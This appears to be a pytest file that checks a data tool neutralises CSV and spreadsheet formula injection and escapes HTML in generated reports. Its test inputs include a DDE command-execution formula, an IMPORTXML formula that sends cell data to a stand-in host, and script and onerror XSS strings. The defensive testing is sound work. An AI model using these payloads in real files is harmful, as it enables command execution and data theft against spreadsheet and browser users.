"""Issue 21, case 4: no formula gets through. Every CSV we write neutralises a text cell that begins
with =, +, -, @, tab or carriage return (OWASP's CSV injection guidance: a quote in front); the
workbook stores every text cell as text. The hostile names are in tests/fixtures/hostile_names.txt.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from hmip.textsafe import (
    FORMULA_TRIGGERS,
    WORKBOOK_OPTIONS,
    is_formula_like,
    neutralise_cell,
    restore_cell,
    safe_frame,
    write_csv,
)

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT / "tests" / "fixtures" / "hostile_names.txt"
HMIP = [str(Path(sys.executable).with_name("hmip"))]


def hostile_names() -> list[str]:
    """The corpus, with \\t, \\r and \\n standing for a tab, carriage return and line break."""
    names = []
    for line in CORPUS.read_text(encoding="utf-8").split("\n"):
        if not line or line.startswith("# "):
            continue
        names.append(line.replace("\\t", "\t").replace("\\r", "\r").replace("\\n", "\n"))
    return names


def as_loaded(names: list[str]) -> list[str]:
    """The names as a data file's PDU column keeps them (cells are stripped), each once."""
    return list(dict.fromkeys(n.strip() for n in names if n.strip()))


def live(cell: str) -> bool:
    """A CSV cell a spreadsheet would run as a formula."""
    return is_formula_like(cell)


# --- The rule --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=", "'="),
        ("-", "'-"),
        ("'=already quoted", "''=already quoted"),
        ("Lewisham and Bromley", "Lewisham and Bromley"),
        ("O'Brien", "O'Brien"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("-2", "-2"),
        ("-0.5", "-0.5"),
        ("-1e-3", "-1e-3"),
        ("12", "12"),
        ("＝1+1", "＝1+1"),  # a full-width sign is not a formula
    ],
)
def test_neutralise_cell_quotes_formula_text_and_leaves_the_rest(value, expected):
    assert neutralise_cell(value) == expected
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, float("nan"), None, True])
def test_numbers_and_missing_values_are_left_alone(value):
    out = neutralise_cell(value)
    assert out is value or (out != out and value != value)


def test_every_trigger_character_is_neutralised():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for ch in FORMULA_TRIGGERS:
        assert neutralise_cell(ch + "x") == "'" + ch + "x"


def test_every_hostile_name_is_safe_and_can_be_restored():
    for name in hostile_names():
        safe = neutralise_cell(name)
        assert not live(safe), repr(name)
        assert restore_cell(safe) == name


def test_safe_frame_keeps_numbers_as_numbers():
    df = pd.DataFrame(
        {
            "pdu": ["=1+1", "-2", "Newham", None],
            "points": [-1, 2, 3, 4],
            "share": [-0.5, 0.1, None, 1.0],
            "mixed": ["-3", -3, "@x", 2.5],
            "kind": pd.Categorical(["+a", "b", "c", "d"]),
        }
    )
    out = safe_frame(df)
    assert list(out["pdu"][:3]) == ["'=1+1", "-2", "Newham"] and pd.isna(out["pdu"][3])
    assert out["points"].dtype == df["points"].dtype and list(out["points"]) == [-1, 2, 3, 4]
    assert out["share"].dtype == df["share"].dtype
    assert list(out["mixed"]) == ["-3", -3, "'@x", 2.5]
    assert list(out["kind"]) == ["'+a", "b", "c", "d"]
    assert list(df["pdu"][:1]) == ["=1+1"]  # the input is not changed
    buf = io.StringIO()
    write_csv(df.rename(columns={"pdu": "=pdu"}), buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0][0] == "'=pdu"
    assert rows[1] == ["'=1+1", "-1", "-0.5", "-3", "'+a"]
    assert rows[2][:3] == ["-2", "2", "0.1"]


def test_workbook_options_store_strings_as_strings():
    assert WORKBOOK_OPTIONS["strings_to_formulas"] is False
    assert WORKBOOK_OPTIONS["strings_to_urls"] is False


# --- hmip rate --format csv ------------------------------------------------------------------------
def _counts_file(path: Path, names: list[str]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["pdu", "standard", "key_question", "yes", "no"])
        for name in names:
            for kq, yes in (("engagement", 30), ("desistance", 28), ("safety", 24)):
                w.writerow([name, "Assessment", kq, yes, 10])
    return path


def test_rate_csv_of_hostile_pdu_names_has_no_live_formula(tmp_path):
    names = [n for n in as_loaded(hostile_names()) if re.search(r"[A-Za-z0-9]", n)]
    path = _counts_file(tmp_path / "hostile_counts.csv", names)
    out = subprocess.run(
        [*HMIP, "rate", str(path), "--format", "csv"], capture_output=True, text=True
    )
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout, newline="")))
    cells = [c for r in rows for c in r]
    assert [c for c in cells if live(c)] == []
    written = [restore_cell(r[0]) for r in rows[1:]]
    assert written == names  # every name is there, and reads back exactly
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # numbers stay numbers
    assert rows[1][rows[0].index("limiting_yes")] == "24"


def test_rate_table_still_shows_the_names_as_given(tmp_path):
    path = _counts_file(tmp_path / "hostile_counts.csv", ["=1+1"])
    out = subprocess.run([*HMIP, "rate", str(path)], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert "\n=1+1\n" in out.stdout


def symbols_only(names: list[str]) -> list[str]:
    return [n for n in names if not re.search(r"[A-Za-z0-9]", n)]


def test_rate_refuses_a_pdu_name_of_symbols_only_naming_each_row(tmp_path):
    names = symbols_only(as_loaded(hostile_names()))
    assert {"=", "+", "-", "@"} <= set(names)
    path = _counts_file(tmp_path / "symbols.csv", names)
    out = subprocess.run([*HMIP, "rate", str(path)], capture_output=True, text=True)
    assert out.returncode == 2 and "Traceback" not in out.stderr
    for i, name in enumerate(names):
        assert (
            f"row {3 * i + 1} (line {3 * i + 2}), column 'pdu': '{name}' is not a PDU name: "
            "it has no letter or digit" in out.stderr
        )


# --- The scrutiny pack's workbook and CSVs --------------------------------------------------------
HOSTILE_PROGRESS = [
    ('=HYPERLINK("http://x","click")', "@SUM(A1)"),
    ("+1+1 audit", "-2+3 cases"),
    ("=cmd|' /C calc'!A0", "\t=1 evidence"),
    ("@cmd plan", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'),
    ("-=1 recruit", "http://evil.example/click"),
    ("<script>alert(1)</script>", "'=already quoted"),
]


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """The pack's data (workbook and CSVs) from a case file with a PDU per hostile name, and a
    progress file with hostile actions and evidence: prepare() and write_data() only (no PDF)."""
    from hmip.analyses import scrutiny_pack as sp
    from hmip.build.workbook import write_data

    out = tmp_path_factory.mktemp("hostile")
    names = [n for n in as_loaded(hostile_names()) if n not in symbols_only([n])]
    src = list(
        csv.reader((ROOT / "data" / "simulated_cases_london_2022.csv").open(encoding="utf-8"))
    )
    header, body = src[0], src[1:]
    template = [r for r in body if r[1] == "Newham"]
    cases = out / "analyst_cases.csv"
    with cases.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(header)
        w.writerows(body)
        for i, name in enumerate(names):
            w.writerows([f"H{i:02d}-{j:03d}", name, *r[2:]] for j, r in enumerate(template))
    progress = out / "progress.csv"
    with progress.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["pdu", "recommendation", "action", "status", "evidence", "date"])
        for i, (action, evidence) in enumerate(HOSTILE_PROGRESS, start=1):
            w.writerow(["Lewisham and Bromley", i, action, "at risk", evidence, "2023-06"])
    pack = sp.prepare(cases_path=str(cases), progress_path=str(progress), draws=1000)
    paths = write_data(pack, out / "data")
    return names, paths


def _strip(value: str) -> str:
    return value.strip()


def test_the_workbook_stores_every_hostile_text_as_text(hostile_data):
    from openpyxl import load_workbook

    names, paths = hostile_data
    wb = load_workbook(paths[0])
    cells = [(ws.title, c) for ws in wb for row in ws.iter_rows() for c in row]
    formulas = [(t, c.coordinate, c.value) for t, c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for _, c in cells if isinstance(c.value, str)}
    assert set(names) <= texts  # every name is there, as given
    for action, evidence in HOSTILE_PROGRESS:
        assert action in texts and _strip(evidence) in texts
    links = [(t, c.hyperlink) for t, c in cells if c.hyperlink is not None]
    assert links and all(h.target is None and h.location for _, h in links)  # contents only


def test_the_packs_csvs_quote_every_formula_like_cell(hostile_data):
    names, paths = hostile_data
    csvs = [p for p in paths if p.suffix == ".csv"]
    assert len(csvs) >= 9
    seen = set()
    for path in csvs:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                assert [c for c in row if live(c)] == [], path.name
                seen.update(restore_cell(c) for c in row)
    assert set(names) <= seen
    for action, evidence in HOSTILE_PROGRESS:
        assert action in seen and _strip(evidence) in seen


@pytest.mark.e2e
def test_a_build_of_hostile_titles_and_parameters_escapes_every_one_and_writes_only_in_its_folder(
    tmp_path,
):
    """The corpus through `hmip reports build` (issue 21, case 4): each hostile string is a report's
    title and its parameter value; the build publishes, every page shows the string escaped (never
    as markup), and nothing is written outside the output folder."""
    import json as _json
    import subprocess as _sp

    picked = [n for n in as_loaded(hostile_names()) if "\n" not in n][:12]
    picked.append('<script>alert("x")</script><img src=x onerror=alert(1)>')
    entries = []
    for i, text in enumerate(picked):
        value = _json.dumps(text)  # a TOML basic string accepts JSON's escapes
        entries.append(
            f'[[report]]\nname = "hostile-{i}"\ntitle = {value}\n'
            f'notebook = "tests/fixtures/tiny.ipynb"\nparameters = {{ message = {value} }}\n'
        )
    cat = tmp_path / "cat.toml"
    cat.write_text("[settings]\nkeep = 2\n" + "\n".join(entries), encoding="utf-8")
    out = tmp_path / "reports"
    before = {p.name for p in tmp_path.parent.iterdir()}
    r = _sp.run(
        [*HMIP, "reports", "build", "--catalogue", str(cat), "--out", str(out), "--jobs", "2"],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert r.returncode == 0, r.stdout + r.stderr
    assert {p.name for p in tmp_path.parent.iterdir()} == before  # nothing beside the test's folder
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve()) or path.is_symlink(), path
    run = (out / "latest").resolve()
    assert run.parent == out.resolve()
    index = (run / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in index and "<img src=x" not in index
    assert "&lt;script&gt;alert" in index
    for i, _text in enumerate(picked):
        page = (run / f"hostile-{i}.html").read_text(encoding="utf-8")
        assert "<script>alert" not in page and "<img src=x" not in page, i
    manifest = _json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    assert [r["title"] for r in manifest["results"]] == picked  # kept as given, as data
    assert [r["parameters"]["message"] for r in manifest["results"]] == picked
